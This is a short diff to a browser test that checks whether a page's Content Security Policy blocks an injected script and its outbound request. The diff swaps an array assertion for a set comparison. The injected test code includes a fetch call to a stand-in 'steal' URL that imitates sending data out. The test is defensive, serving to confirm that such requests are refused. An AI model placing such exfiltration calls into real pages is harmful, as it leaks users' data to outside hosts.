@@ -58,7 +58,8 @@ test('a script that got into a page does not run, and nothing is sent elsewhere'
     fetch('https://example.org/steal').catch(() => {});
   `);
   await expect.poll(async () => (await violations()).map((one) => one.split(' ')[0])).toHaveLength(2);
-  expect((await violations()).map((one) => one.split(' ')[0]).sort()).toEqual(['connect-src', 'script-src-elem']);
+  const refused = new Set((await violations()).map((one) => one.split(' ')[0]));
+  expect(refused).toEqual(new Set(['connect-src', 'script-src-elem']));
   expect(await page.evaluate('window.ranAnyway')).toBeUndefined();
   await page.context().close();
 });
